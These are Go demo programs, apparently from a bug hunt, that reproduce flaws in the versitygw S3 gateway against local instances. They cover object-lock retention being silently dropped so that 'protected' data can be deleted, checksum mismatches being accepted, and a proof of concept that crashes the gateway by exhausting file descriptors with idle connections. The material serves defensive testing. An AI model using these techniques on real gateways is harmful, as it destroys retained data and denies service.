func model(keys []string) []string {
	var cps []string
	seen := map[string]bool{}
	for _, k := range keys {
		if i := strings.Index(k, "/"); i >= 0 {
			cp := k[:i+1]
			if !seen[cp] {
				seen[cp] = true
				cps = append(cps, cp)
			}
		}
	}
	return cps
}

func check(g *gw, bucket, what string) string {
	// the keys of the bucket as the gateway itself lists them
	st, body := g.do("GET", "/"+bucket+"?list-type=2", nil, nil)
	if st != 200 {
		fmt.Println("flat listing failed:", st, body)
		os.Exit(2)
	}
	keys := tags(body, "Key")
	want := model(keys)
	for _, q := range []string{"?list-type=2&delimiter=%2F", "?delimiter=%2F"} {
		st, body = g.do("GET", "/"+bucket+q, nil, nil)
		if st != 200 {
			fmt.Println("listing failed:", st, body)
			os.Exit(2)
		}
		got := tags(body, "Prefix")
		// V1 and V2 echo an (absent) request prefix as <Prefix> only when set
		if strings.Join(got, ",") != strings.Join(want, ",") {
			var below []string
			for _, cp := range got {
				_, b := g.do("GET", "/"+bucket+"?list-type=2&prefix="+strings.ReplaceAll(cp, "/", "%2F"), nil, nil)
				below = append(below, fmt.Sprintf("%s->%d keys", cp, len(tags(b, "Key"))))
			}
			return fmt.Sprintf("%s: keys of the bucket are %q, so the common prefixes must be %q, but GET /%s%s returned common prefixes %q (listing below them: %v)",
				what, keys, want, bucket, q, got, below)
		}
	}
	return ""
}

func run(base string) int {
	root, vers := base+"/root", base+"/vers"
	os.MkdirAll(root, 0755)
	os.MkdirAll(vers, 0755)
	be, err := posix.New(root, meta.XattrMeta{}, posix.PosixOpts{NewDirPerm: 0755, VersioningDir: vers})
	if err != nil {
		fmt.Println("posix.New:", err)
		return 2
	}
	g := startGW(be)

	var bad []string

	// A: failed PutObject, no versioning
	g.must("PUT", "/bkt-a", nil, nil)
	g.must("PUT", "/bkt-a/docs/readme", []byte("r"), nil)
	g.must("PUT", "/bkt-a/keep", []byte("k"), nil)
	st, _ := g.do("PUT", "/bkt-a/up/load/file", []byte("hello"),
		map[string]string{"x-amz-meta-" + strings.Repeat("k", 245): "v"})
	if st/100 == 2 {
		fmt.Println("the PutObject was expected to fail")
		return 2
	}
	if v := check(g, "bkt-a", fmt.Sprintf("A (PUT up/load/file refused with %d)", st)); v != "" {
		bad = append(bad, v)
	}

	// B: delete marker
	g.must("PUT", "/bkt-b", nil, nil)
	g.must("PUT", "/bkt-b?versioning", []byte(`<VersioningConfiguration xmlns="http://s3.amazonaws.com/doc/2006-03-01/"><Status>Enabled</Status></VersioningConfiguration>`), nil)
	g.must("PUT", "/bkt-b/keep", []byte("k"), nil)
	g.must("PUT", "/bkt-b/logs/2024/a.log", []byte("a"), nil)
	g.must("DELETE", "/bkt-b/logs/2024/a.log", nil, nil)
	if v := check(g, "bkt-b", "B (versioned bucket, DELETE logs/2024/a.log)"); v != "" {
		bad = append(bad, v)
	}

	if len(bad) != 0 {
		fmt.Println("VIOLATION: " + strings.Join(bad, " || "))
		return 1
	}
	fmt.Println("ok: every common prefix has a key beneath it")
	return 0
}
