//go:build huntdemo

// C08 finding 1: CompleteMultipartUpload onto key "photos" silently removes
// the directory object "photos/" (a different key) and answers 200, although
// PutObject of the same key is refused with 409 ExistingObjectIsDirectory.
package main

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"io"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/service/s3"
	"github.com/aws/aws-sdk-go-v2/service/s3/types"
	"github.com/aws/smithy-go"
	"github.com/versity/versitygw/backend/meta"
	"github.com/versity/versitygw/backend/posix"
)

var (
	ctx = context.Background()
	bkt = aws.String("bkt")
)

func code(err error) string {
	if err == nil {
		return "200"
	}
	var ae smithy.APIError
	if errors.As(err, &ae) {
		return ae.ErrorCode()
	}
	return err.Error()
}

func listKeys(c *s3.Client) []string {
	lo, err := c.ListObjectsV2(ctx, &s3.ListObjectsV2Input{Bucket: bkt})
	must(err)
	var keys []string
	for _, o := range lo.Contents {
		keys = append(keys, *o.Key)
	}
	return keys
}

func main() {
	root := scratchDir("c08-hunt1")
	be, err := posix.New(root, meta.XattrMeta{}, posix.PosixOpts{NewDirPerm: 0755})
	must(err)
	c := startGateway(be).cli

	_, err = c.CreateBucket(ctx, &s3.CreateBucketInput{Bucket: bkt})
	must(err)

	// an object with key "photos/" (what "create folder" of S3 clients stores)
	_, err = c.PutObject(ctx, &s3.PutObjectInput{Bucket: bkt, Key: aws.String("photos/"),
		Metadata: map[string]string{"owner": "alice"}, ContentType: aws.String("application/x-directory")})
	must(err)
	ho, err := c.HeadObject(ctx, &s3.HeadObjectInput{Bucket: bkt, Key: aws.String("photos/")})
	must(err)
	fmt.Printf("before: HEAD photos/ -> 200 metadata=%v, listing=%v\n", ho.Metadata, listKeys(c))

	// the gateway cannot hold "photos" next to "photos/": PutObject says so
	_, err = c.PutObject(ctx, &s3.PutObjectInput{Bucket: bkt, Key: aws.String("photos"), Body: bytes.NewReader([]byte("x"))})
	fmt.Printf("PutObject photos -> %s\n", code(err))

	// the same key through a multipart upload
	mp, err := c.CreateMultipartUpload(ctx, &s3.CreateMultipartUploadInput{Bucket: bkt, Key: aws.String("photos")})
	must(err)
	up, err := c.UploadPart(ctx, &s3.UploadPartInput{Bucket: bkt, Key: aws.String("photos"), UploadId: mp.UploadId,
		PartNumber: aws.Int32(1), Body: bytes.NewReader([]byte("hello"))})
	must(err)
	_, cerr := c.CompleteMultipartUpload(ctx, &s3.CompleteMultipartUploadInput{Bucket: bkt, Key: aws.String("photos"), UploadId: mp.UploadId,
		MultipartUpload: &types.CompletedMultipartUpload{Parts: []types.CompletedPart{{PartNumber: aws.Int32(1), ETag: up.ETag}}}})
	fmt.Printf("CompleteMultipartUpload photos -> %s\n", code(cerr))

	_, herr := c.HeadObject(ctx, &s3.HeadObjectInput{Bucket: bkt, Key: aws.String("photos/")})
	keys := listKeys(c)
	fmt.Printf("after: HEAD photos/ -> %s, listing=%v\n", code(herr), keys)

	body := ""
	if g, err := c.GetObject(ctx, &s3.GetObjectInput{Bucket: bkt, Key: aws.String("photos")}); err == nil {
		b, _ := io.ReadAll(g.Body)
		body = string(b)
	}

	if herr != nil {
		fmt.Printf("VIOLATION: CompleteMultipartUpload of key \"photos\" answered %s and destroyed the object \"photos/\" (HEAD now %s, gone from the listing; GET photos = %q); PutObject of the same key is refused with ExistingObjectIsDirectory\n",
			code(cerr), code(herr), body)
		exit(1)
	}
	fmt.Println("ok: the object photos/ survived the multipart upload of photos")
	exit(0)
}
