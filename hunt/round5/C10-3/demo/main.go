//go:build huntdemo

package main

// C10 / finding 3 (no concurrency, no crash)
//
// Two write paths answer 200 to a request that places the object under
// COMPLIANCE retention and legal hold (x-amz-object-lock-mode,
// x-amz-object-lock-retain-until-date, x-amz-object-lock-legal-hold) and
// store neither:
//
//   a) CopyObject of an object onto itself with x-amz-metadata-directive:
//      REPLACE - the way an existing object is put under retention with a
//      copy request. posix.CopyObject's in-place branch rewrites the metadata
//      and never looks at input.ObjectLock*.
//   b) PutObject of a directory object (key ending in "/"). posix.PutObject's
//      directory branch returns before the code that sets legal hold and
//      retention.
//
// The same headers on CopyObject to another key, or on PutObject of a file
// object, are honoured (reference run below). The objects acknowledged as
// protected are then deleted by a plain DELETE without bypass.

import (
	"fmt"
	"os"
	"strings"
	"time"
)

func main() {
	g, err := startGateway(nil)
	must(err == nil, "start gateway: %v", err)
	defer g.cleanup()

	const bucket = "lockb"
	until := time.Now().Add(365 * 24 * time.Hour).UTC().Format(time.RFC3339)
	lock := func(extra map[string]string) map[string]string {
		h := map[string]string{
			"x-amz-object-lock-mode":              "COMPLIANCE",
			"x-amz-object-lock-retain-until-date": until,
			"x-amz-object-lock-legal-hold":        "ON",
		}
		for k, v := range extra {
			h[k] = v
		}
		return h
	}

	r := g.do("PUT", "/"+bucket, "", map[string]string{"x-amz-bucket-object-lock-enabled": "true"}, nil)
	must(r.status == 200, "create lock bucket: %d %s", r.status, r.body)

	// reference: the same headers on a copy to another key are honoured
	r = g.do("PUT", "/"+bucket+"/src", "", nil, []byte("reference"))
	must(r.status == 200, "put src: %d", r.status)
	r = g.do("PUT", "/"+bucket+"/ref", "", lock(map[string]string{"x-amz-copy-source": bucket + "/src"}), nil)
	must(r.status == 200, "copy src->ref: %d %s", r.status, r.body)
	refV := r.hdr.Get("x-amz-version-id")
	rr := g.do("GET", "/"+bucket+"/ref", "retention", nil, nil)
	rd := g.do("DELETE", "/"+bucket+"/ref", "versionId="+refV, nil, nil)
	must(strings.Contains(string(rr.body), "COMPLIANCE") && rd.status != 204, "reference copy not protected: %d %d", rr.status, rd.status)
	fmt.Printf("reference: CopyObject src->ref with lock headers: retention COMPLIANCE stored, DELETE ?versionId -> %d %s\n", rd.status, rd.code())

	violations := 0

	// a) in-place CopyObject
	const rec = "RECORD-TO-BE-RETAINED"
	r = g.do("PUT", "/"+bucket+"/record", "", nil, []byte(rec))
	must(r.status == 200, "put record: %d", r.status)
	v1 := r.hdr.Get("x-amz-version-id")
	rc := g.do("PUT", "/"+bucket+"/record", "", lock(map[string]string{
		"x-amz-copy-source":        bucket + "/record",
		"x-amz-metadata-directive": "REPLACE",
		"x-amz-meta-retained-by":   "records-dept",
	}), nil)
	ver := rc.hdr.Get("x-amz-version-id")
	if ver == "" {
		ver = v1
	}
	rret := g.do("GET", "/"+bucket+"/record", "retention&versionId="+ver, nil, nil)
	rlh := g.do("GET", "/"+bucket+"/record", "legal-hold&versionId="+ver, nil, nil)
	rdel := g.do("DELETE", "/"+bucket+"/record", "versionId="+ver, nil, nil)
	rget := g.do("GET", "/"+bucket+"/record", "versionId="+ver, nil, nil)
	fmt.Printf("a) CopyObject record->record REPLACE, COMPLIANCE until %s + legal hold ON -> %d (same version: %v)\n", until, rc.status, ver == v1)
	fmt.Printf("   GetObjectRetention -> %d %s; GetObjectLegalHold -> %d %s\n", rret.status, rret.code(), rlh.status, rlh.code())
	fmt.Printf("   DELETE record?versionId (no bypass) -> %d %s; GET ?versionId -> %d %s\n", rdel.status, rdel.code(), rget.status, rget.code())
	if rc.status == 200 && !(rget.status == 200 && string(rget.body) == rec) {
		violations++
	}

	// b) directory object
	rp := g.do("PUT", "/"+bucket+"/case-42/", "", lock(map[string]string{"x-amz-meta-case": "42", "x-amz-meta-custodian": "legal"}), nil)
	rret = g.do("GET", "/"+bucket+"/case-42/", "retention", nil, nil)
	rlh = g.do("GET", "/"+bucket+"/case-42/", "legal-hold", nil, nil)
	rdel = g.do("DELETE", "/"+bucket+"/case-42/", "", nil, nil)
	rhead := g.do("HEAD", "/"+bucket+"/case-42/", "", nil, nil)
	fmt.Printf("b) PutObject case-42/ with COMPLIANCE until %s + legal hold ON -> %d\n", until, rp.status)
	fmt.Printf("   GetObjectRetention -> %d %s; GetObjectLegalHold -> %d %s\n", rret.status, rret.code(), rlh.status, rlh.code())
	fmt.Printf("   DELETE case-42/ (no bypass) -> %d %s; HEAD -> %d (x-amz-meta-case=%q)\n", rdel.status, rdel.code(), rhead.status, rhead.hdr.Get("x-amz-meta-case"))
	if rp.status == 200 && rhead.status != 200 {
		violations++
	}

	if violations == 0 {
		fmt.Println("OK: objects acknowledged with COMPLIANCE retention and legal hold could not be deleted")
		g.cleanup()
		os.Exit(0)
	}
	fmt.Printf("VIOLATION: %d of 2 objects whose COMPLIANCE retention + legal hold request was answered 200 (in-place CopyObject; directory-object PutObject) carried neither and were destroyed by a plain DELETE without bypass\n", violations)
	g.cleanup()
	os.Exit(1)
}
