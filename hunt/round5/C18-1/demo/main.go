//go:build huntdemo

// C18 finding 1: the s3proxy backend acknowledges object-lock requests and
// silently drops them.
//
// The same program is run against the endpoint directly (bucket lock-direct)
// and through a gateway that uses this endpoint as its s3proxy backend (bucket
// lock-proxy):
//
//	PUT  /<bucket>            x-amz-bucket-object-lock-enabled: true
//	PUT  /<bucket>/doc        x-amz-object-lock-mode: COMPLIANCE, retain until 2035
//	GET  /<bucket>/doc?retention
//	DELETE /<bucket>/doc?versionId=<the version just written>
//	GET  /<bucket>/doc?versionId=<that version>
//
// and, on a bucket WITHOUT an object lock configuration:
//
//	PUT  /<plain bucket>/doc  x-amz-object-lock-legal-hold: ON
//
// exit 1: the client-visible results differ (property violated), exit 0: same.
package main

import (
	"fmt"
	"os"
)

func main() {
	endpoint, proxy, cleanup := setup("c18hunt1", true)
	code := run(endpoint, proxy)
	cleanup()
	os.Exit(code)
}

type outcome struct {
	create, put, retention, del, getAfter, putNoConfig string
}

func program(g *gateway, bucket string) outcome {
	var o outcome
	o.create = g.do("", "", "PUT", "/"+bucket, map[string]string{"x-amz-bucket-object-lock-enabled": "true"}, "").brief()
	r := g.do("", "", "PUT", "/"+bucket+"/doc", map[string]string{
		"x-amz-object-lock-mode":              "COMPLIANCE",
		"x-amz-object-lock-retain-until-date": "2035-01-01T00:00:00Z",
	}, "must be retained")
	o.put = r.brief()
	vid := r.Header.Get("x-amz-version-id")
	o.retention = g.do("", "", "GET", "/"+bucket+"/doc?retention", nil, "").brief()
	o.del = g.do("", "", "DELETE", "/"+bucket+"/doc?versionId="+vid, nil, "").brief()
	gr := g.do("", "", "GET", "/"+bucket+"/doc?versionId="+vid, nil, "")
	o.getAfter = gr.brief()
	if gr.Status == 200 {
		o.getAfter += fmt.Sprintf(" %q", gr.Body)
	}

	plain := bucket + "-plain"
	g.do("", "", "PUT", "/"+plain, nil, "")
	o.putNoConfig = g.do("", "", "PUT", "/"+plain+"/doc", map[string]string{"x-amz-object-lock-legal-hold": "ON"}, "hold me").brief()
	return o
}

func run(endpoint, proxy *gateway) int {
	d := program(endpoint, "lock-direct")
	p := program(proxy, "lock-proxy")

	rows := []struct{ step, d, p string }{
		{"create bucket, object lock enabled", d.create, p.create},
		{"put doc, COMPLIANCE until 2035", d.put, p.put},
		{"get doc retention", d.retention, p.retention},
		{"delete that version", d.del, p.del},
		{"get that version afterwards", d.getAfter, p.getAfter},
		{"put with legal hold, bucket without lock config", d.putNoConfig, p.putNoConfig},
	}
	differ := false
	for _, r := range rows {
		mark := "same"
		switch {
		case r.d == r.p:
		case r.p == "501 NotImplemented":
			// a clean refusal of an unsupported call is not counted
			mark = "different (clean NotImplemented, not counted)"
		default:
			mark = "DIFFERENT"
			differ = true
		}
		fmt.Printf("%-50s direct: %-40s proxy: %-40s %s\n", r.step, r.d, r.p, mark)
	}
	if d.put == p.put && d.del != p.del {
		fmt.Printf("VIOLATION: through the s3proxy gateway the upload with COMPLIANCE retention was acknowledged (%s) but the lock was dropped: deleting the locked version answered %s and the data is gone (%s); the endpoint itself answers %s and keeps it (%s)\n",
			p.put, p.del, p.getAfter, d.del, d.getAfter)
		return 1
	}
	if differ {
		fmt.Println("VIOLATION: object lock requests give different client-visible results through the s3proxy gateway")
		return 1
	}
	fmt.Println("ok: same results directly and through the s3proxy gateway")
	return 0
}
