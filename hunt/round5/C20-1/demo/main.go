//go:build huntdemo

// C20 finding 1: clients that merely OPEN connections (no credentials, not a
// single byte of a request) make the gateway process exit.
//
// The gateway's http server is configured (cmd/versitygw runGateway) without
// a read / idle timeout and without a bound on concurrent connections below
// the process' file descriptor limit, so idle connections are kept forever.
// Once the descriptors run out, accept(2) fails with EMFILE; the http server
// treats that as a permanent error, Serve() returns, and runGateway shuts
// the gateway down (exit status 1).
//
// The demo builds the real versitygw binary from this checkout and runs it
// (posix backend) with a file descriptor limit of 256 (a usual default is
// 1024; the smaller number only makes the demo quick).
package main

import (
	"bytes"
	"fmt"
	"io"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"time"
)

const fdLimit = 256

func probe(addr string) (bool, string) {
	c, err := net.DialTimeout("tcp", addr, 2*time.Second)
	if err != nil {
		return false, err.Error()
	}
	defer c.Close()
	c.SetDeadline(time.Now().Add(3 * time.Second))
	c.Write([]byte("GET /_health HTTP/1.1\r\nHost: x\r\n\r\n"))
	b, err := io.ReadAll(io.LimitReader(c, 64))
	if strings.HasPrefix(string(b), "HTTP/1.1 200") {
		return true, "200 OK"
	}
	if err != nil {
		return false, "no answer: " + err.Error()
	}
	return false, fmt.Sprintf("answer %q", b)
}

func freePort() string {
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		panic(err)
	}
	defer l.Close()
	return l.Addr().String()
}

func main() {
	base, err := os.MkdirTemp("/dev/shm", "hunt-c20-demo-")
	if err != nil {
		panic(err)
	}
	defer os.RemoveAll(base)
	root := filepath.Join(base, "root")
	os.MkdirAll(root, 0755)
	bin := filepath.Join(base, "versitygw")

	build := exec.Command("go", "build", "-o", bin, "./cmd/versitygw")
	build.Env = append(os.Environ(), "GOFLAGS=-mod=mod", "GOPROXY=off", "GOSUMDB=off", "GOTOOLCHAIN=local")
	if out, err := build.CombinedOutput(); err != nil {
		fmt.Printf("cannot build ./cmd/versitygw (run the demo from the root of the checkout): %v\n%s", err, out)
		os.Exit(2)
	}

	addr := freePort()
	var gwOut bytes.Buffer
	gwc := exec.Command("sh", "-c", fmt.Sprintf("ulimit -n %d && exec \"$@\"", fdLimit), "sh",
		bin, "--access", "ROOTACCESSKEY", "--secret", "rootsecretrootsecret", "--port", addr, "--health", "/_health", "--quiet", "posix", root)
	gwc.Stdout, gwc.Stderr = &gwOut, &gwOut
	gwc.SysProcAttr = &syscall.SysProcAttr{Pdeathsig: syscall.SIGKILL}
	if err := gwc.Start(); err != nil {
		panic(err)
	}
	exited := make(chan error, 1)
	go func() { exited <- gwc.Wait() }()
	defer gwc.Process.Kill()

	up := false
	for i := 0; i < 100 && !up; i++ {
		time.Sleep(100 * time.Millisecond)
		up, _ = probe(addr)
	}
	if !up {
		fmt.Println("the gateway did not come up:", gwOut.String())
		os.Exit(2)
	}

	// the "attack": open connections and send nothing
	var conns []net.Conn
	for i := 0; i < fdLimit+64; i++ {
		c, err := net.DialTimeout("tcp", addr, 2*time.Second)
		if err != nil {
			break
		}
		conns = append(conns, c)
	}
	defer func() {
		for _, c := range conns {
			c.Close()
		}
	}()

	dead := false
	status := "still running"
	select {
	case err := <-exited:
		dead = true
		status = "process exited"
		if err != nil {
			status += ": " + err.Error()
		}
	case <-time.After(5 * time.Second):
	}
	ok, why := probe(addr)
	// a gateway that survives gets the time to reap the idle connections
	// (they stay open on our side)
	for i := 0; !dead && !ok && i < 45; i++ {
		time.Sleep(2 * time.Second)
		ok, why = probe(addr)
	}

	lines := strings.Split(strings.TrimSpace(gwOut.String()), "\n")
	last := lines[len(lines)-1]
	fmt.Printf("fd limit %d | %d idle connections opened, 0 bytes sent | gateway: %s | its last words: %q | health probe afterwards: %v (%s)\n",
		fdLimit, len(conns), status, last, ok, why)

	if dead && !ok {
		fmt.Printf("VIOLATION: %d idle TCP connections (no credentials, no request) made the gateway process exit; nobody is served any more\n", len(conns))
		os.Exit(1)
	}
	if !ok {
		fmt.Println("VIOLATION: the gateway process runs but has not served another client for 90 s while the idle connections are open")
		os.Exit(1)
	}
	fmt.Println("OK: the gateway keeps running and keeps serving other clients")
}
