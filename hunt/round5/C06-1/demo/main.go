//go:build huntdemo

// Demo for C06 finding 1: CompleteMultipartUpload acknowledges a request whose
// x-amz-checksum-<algo> header (the checksum the client asserts for the
// assembled object) does not match the assembled bytes, whenever the upload
// was created without a checksum algorithm or with another algorithm.
package main

import (
	"bytes"
	"fmt"
	"net/url"
	"os"
	"regexp"
)

var uploadIDRe = regexp.MustCompile(`<UploadId>([^<]*)</UploadId>`)

func main() { os.Exit(run()) }

type harnessFail struct{}

func run() int {
	g := newGW(gwOpts{})
	defer g.close()
	defer func() {
		if r := recover(); r != nil {
			if _, ok := r.(harnessFail); !ok {
				panic(r)
			}
			g.close()
			os.Exit(2)
		}
	}()

	if r := g.do("PUT", "/bkt", nil, nil, nil); r.status != 200 {
		fmt.Println("harness: create bucket:", r)
		panic(harnessFail{})
	}
	old := []byte("the old content of the key")
	data := []byte("the bytes of the only part of the multipart upload")
	wrong := crc32b64([]byte("these are not the bytes that were uploaded"))
	wrongSHA := "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=" // 32 zero bytes

	violations := 0
	attempt := func(name string, createHdr, partHdr map[string]string, partXML string, completeHdr map[string]string) {
		key := "/bkt/" + name
		if r := g.do("PUT", key, nil, nil, old); r.status != 200 {
			fmt.Println("harness: seed:", r)
			panic(harnessFail{})
		}
		cr := g.do("POST", key, url.Values{"uploads": {""}}, createHdr, nil)
		m := uploadIDRe.FindSubmatch(cr.body)
		if m == nil {
			fmt.Println("harness: create upload:", cr, string(cr.body))
			panic(harnessFail{})
		}
		id := string(m[1])
		pr := g.do("PUT", key, url.Values{"uploadId": {id}, "partNumber": {"1"}}, partHdr, data)
		if pr.status != 200 {
			fmt.Println("harness: upload part:", pr, string(pr.body))
			panic(harnessFail{})
		}
		assertion := ""
		for k, v := range completeHdr {
			assertion = k + ": " + v
		}
		body := []byte(`<CompleteMultipartUpload><Part><PartNumber>1</PartNumber><ETag>` + pr.hdr.Get("ETag") + `</ETag>` + partXML + `</Part></CompleteMultipartUpload>`)
		res := g.do("POST", key, url.Values{"uploadId": {id}}, completeHdr, body)
		gr := g.do("GET", key, nil, nil, nil)
		fmt.Printf("%-27s Complete with wrong %q -> %s; GET -> %d, %d bytes, replaced by the upload=%v\n",
			name+":", assertion, res, gr.status, len(gr.body), bytes.Equal(gr.body, data))
		if res.status < 400 || !bytes.Equal(gr.body, old) {
			violations++
		}
	}

	// (a) upload created without a checksum algorithm, the completion asserts CRC32
	attempt("no-algorithm", nil, nil, "", map[string]string{"x-amz-checksum-crc32": wrong})
	// (b) upload created with CRC32/FULL_OBJECT, the completion asserts SHA256
	attempt("crc32-upload-sha256-header",
		map[string]string{"x-amz-checksum-algorithm": "CRC32", "x-amz-checksum-type": "FULL_OBJECT"},
		map[string]string{"x-amz-checksum-crc32": crc32b64(data)},
		"<ChecksumCRC32>"+crc32b64(data)+"</ChecksumCRC32>",
		map[string]string{"x-amz-checksum-sha256": wrongSHA})
	// control: same algorithm as the upload -> refused (BadDigest), key untouched
	attempt("control-same-algorithm",
		map[string]string{"x-amz-checksum-algorithm": "CRC32", "x-amz-checksum-type": "FULL_OBJECT"},
		map[string]string{"x-amz-checksum-crc32": crc32b64(data)},
		"<ChecksumCRC32>"+crc32b64(data)+"</ChecksumCRC32>",
		map[string]string{"x-amz-checksum-crc32": wrong})

	if violations > 0 {
		fmt.Printf("C06 VIOLATED: %d CompleteMultipartUpload requests whose x-amz-checksum-* header does not match the assembled bytes were acknowledged and replaced the key\n", violations)
		return 1
	}
	fmt.Println("C06 holds: every completion with a wrong object checksum was refused and the key kept its content")
	return 0
}
