//go:build huntdemo

// C19 hunt 1: notifications of PutObject and DeleteObject never carry the
// version id, so the notification of "delete version X of key K" (which may
// leave K untouched, or even bring K back when X is a delete marker) is the
// same document as the notification of "K was deleted".
package main

import (
	"fmt"
	"os"
	"strings"
)

func one(g *gw, what string) event {
	evs := g.col.take()
	if len(evs) != 1 {
		fmt.Printf("%s: expected 1 notification, got %d\n", what, len(evs))
		g.cleanup()
		os.Exit(2)
	}
	return evs[0]
}

func main() {
	g := startGW(gwOpts{versioning: true})
	code := run(g)
	g.cleanup()
	os.Exit(code)
}

func run(g *gw) int {
	must := func(r resp, want int, what string) resp {
		if r.Status != want {
			fmt.Printf("setup: %s: status %d, want %d: %s\n", what, r.Status, want, r.Body)
			g.cleanup()
			os.Exit(2)
		}
		return r
	}
	must(g.do("PUT", "/bkt", "", nil, nil), 200, "create bucket")
	must(g.do("PUT", "/bkt", "versioning", nil,
		[]byte(`<VersioningConfiguration><Status>Enabled</Status></VersioningConfiguration>`)), 200, "enable versioning")
	g.col.take()

	var bad []string
	check := func(step string, e event, wantVersion string) {
		got := s(e.VersionId)
		verdict := "ok"
		if got != wantVersion {
			verdict = "WRONG"
			bad = append(bad, step)
		}
		fmt.Printf("   notification: %s key=%q versionId=%s  (version affected by the request: %s) %s\n",
			e.Name, e.Key, got, wantVersion, verdict)
	}
	get := func() string {
		r := g.do("GET", "/bkt/doc", "", nil, nil)
		if r.Status != 200 {
			return fmt.Sprintf("GET /bkt/doc -> %d", r.Status)
		}
		return fmt.Sprintf("GET /bkt/doc -> %d %q", r.Status, r.Body)
	}

	r := must(g.do("PUT", "/bkt/doc", "", nil, []byte("one")), 200, "put 1")
	v1 := r.Hdr.Get("X-Amz-Version-Id")
	fmt.Printf("1. PUT /bkt/doc 'one'  -> 200 x-amz-version-id=%s\n", v1)
	check("PutObject", one(g, "put 1"), v1)

	r = must(g.do("PUT", "/bkt/doc", "", nil, []byte("two2")), 200, "put 2")
	v2 := r.Hdr.Get("X-Amz-Version-Id")
	fmt.Printf("2. PUT /bkt/doc 'two2' -> 200 x-amz-version-id=%s\n", v2)
	check("PutObject", one(g, "put 2"), v2)

	r = must(g.do("DELETE", "/bkt/doc", "versionId="+v1, nil, nil), 204, "delete v1")
	fmt.Printf("3. DELETE /bkt/doc?versionId=%s (old, non-current version) -> 204; %s\n", v1, get())
	e3 := one(g, "delete v1")
	check("DeleteObject?versionId=<old version>", e3, v1)

	r = must(g.do("DELETE", "/bkt/doc", "", nil, nil), 204, "delete")
	m := r.Hdr.Get("X-Amz-Version-Id")
	fmt.Printf("4. DELETE /bkt/doc -> 204 x-amz-delete-marker=%s x-amz-version-id=%s; %s\n", r.Hdr.Get("X-Amz-Delete-Marker"), m, get())
	e4 := one(g, "delete")
	check("DeleteObject (delete marker created)", e4, m)

	r = must(g.do("DELETE", "/bkt/doc", "versionId="+m, nil, nil), 204, "delete marker")
	fmt.Printf("5. DELETE /bkt/doc?versionId=%s (the delete marker) -> 204; %s   <- the object is back\n", m, get())
	e5 := one(g, "delete marker")
	check("DeleteObject?versionId=<delete marker>", e5, m)

	same := e3.Name == e4.Name && e4.Name == e5.Name && s(e3.VersionId) == s(e4.VersionId) && s(e4.VersionId) == s(e5.VersionId)
	if len(bad) > 0 {
		fmt.Printf("VIOLATION: notifications do not name the version the request changed (%s); steps 3, 4 and 5 (old version removed / object deleted / object restored) produced indistinguishable documents: %v\n",
			strings.Join(bad, ", "), same)
		return 1
	}
	fmt.Println("OK: every notification names the version the request created or removed")
	return 0
}
