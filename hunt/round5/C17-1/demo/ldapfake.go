//go:build huntdemo

package main

// A minimal in-process LDAP directory (RFC 4511 subset: bind, search with
// and / or / not / equality / substrings / present filters, add,
// modify-replace, delete) with its own tiny BER codec, so that the demo adds
// no direct dependency to go.mod. Equality is evaluated EXACTLY (case
// sensitive): the demo does not lean on caseIgnoreMatch. Substring filters
// are evaluated the way every directory evaluates them.

import (
	"bufio"
	"errors"
	"io"
	"net"
	"strings"
	"sync"
)

// ---- BER ----

type tlv struct {
	class    byte // 0 universal, 1 application, 2 context
	cons     bool
	tag      byte
	data     []byte // primitive content
	children []*tlv // constructed content
}

func parseTLV(b []byte) (*tlv, []byte, error) {
	if len(b) < 2 {
		return nil, nil, errors.New("short")
	}
	t := &tlv{class: b[0] >> 6, cons: b[0]&0x20 != 0, tag: b[0] & 0x1f}
	n := int(b[1])
	b = b[2:]
	if n&0x80 != 0 {
		k := n & 0x7f
		if k == 0 || k > 4 || len(b) < k {
			return nil, nil, errors.New("bad length")
		}
		n = 0
		for i := 0; i < k; i++ {
			n = n<<8 | int(b[i])
		}
		b = b[k:]
	}
	if len(b) < n {
		return nil, nil, errors.New("short content")
	}
	content, rest := b[:n], b[n:]
	if t.cons {
		for len(content) > 0 {
			c, r, err := parseTLV(content)
			if err != nil {
				return nil, nil, err
			}
			t.children = append(t.children, c)
			content = r
		}
	} else {
		t.data = content
	}
	return t, rest, nil
}

func readMessage(r *bufio.Reader) (*tlv, error) {
	hdr := make([]byte, 2)
	if _, err := io.ReadFull(r, hdr); err != nil {
		return nil, err
	}
	n := int(hdr[1])
	if n&0x80 != 0 {
		k := n & 0x7f
		ext := make([]byte, k)
		if _, err := io.ReadFull(r, ext); err != nil {
			return nil, err
		}
		hdr = append(hdr, ext...)
		n = 0
		for _, x := range ext {
			n = n<<8 | int(x)
		}
	}
	body := make([]byte, n)
	if _, err := io.ReadFull(r, body); err != nil {
		return nil, err
	}
	t, _, err := parseTLV(append(hdr, body...))
	return t, err
}

func enc(class byte, cons bool, tag byte, content []byte) []byte {
	id := class<<6 | tag
	if cons {
		id |= 0x20
	}
	out := []byte{id}
	n := len(content)
	switch {
	case n < 0x80:
		out = append(out, byte(n))
	case n < 0x100:
		out = append(out, 0x81, byte(n))
	case n < 0x10000:
		out = append(out, 0x82, byte(n>>8), byte(n))
	default:
		out = append(out, 0x83, byte(n>>16), byte(n>>8), byte(n))
	}
	return append(out, content...)
}

func encInt(tag byte, v int64) []byte {
	var c []byte
	for {
		c = append([]byte{byte(v)}, c...)
		if v >= -128 && v <= 127 {
			break
		}
		v >>= 8
	}
	return enc(0, false, tag, c)
}

func encStr(s string) []byte { return enc(0, false, 4, []byte(s)) }

func cat(parts ...[]byte) []byte {
	var out []byte
	for _, p := range parts {
		out = append(out, p...)
	}
	return out
}

func intOf(t *tlv) int64 {
	var v int64
	for i, x := range t.data {
		if i == 0 && x&0x80 != 0 {
			v = -1
		}
		v = v<<8 | int64(x)
	}
	return v
}

// ---- directory ----

type ldapEntry struct {
	dn    string
	attrs map[string][]string // lower-cased attribute name -> values
}

type fakeLDAP struct {
	mu      sync.Mutex
	entries map[string]*ldapEntry // normalised dn -> entry
	order   []string
	ln      net.Listener
}

func normDN(dn string) string {
	parts := strings.Split(dn, ",")
	for i := range parts {
		parts[i] = strings.ToLower(strings.TrimSpace(parts[i]))
	}
	return strings.Join(parts, ",")
}

func startFakeLDAP() *fakeLDAP {
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		panic(err)
	}
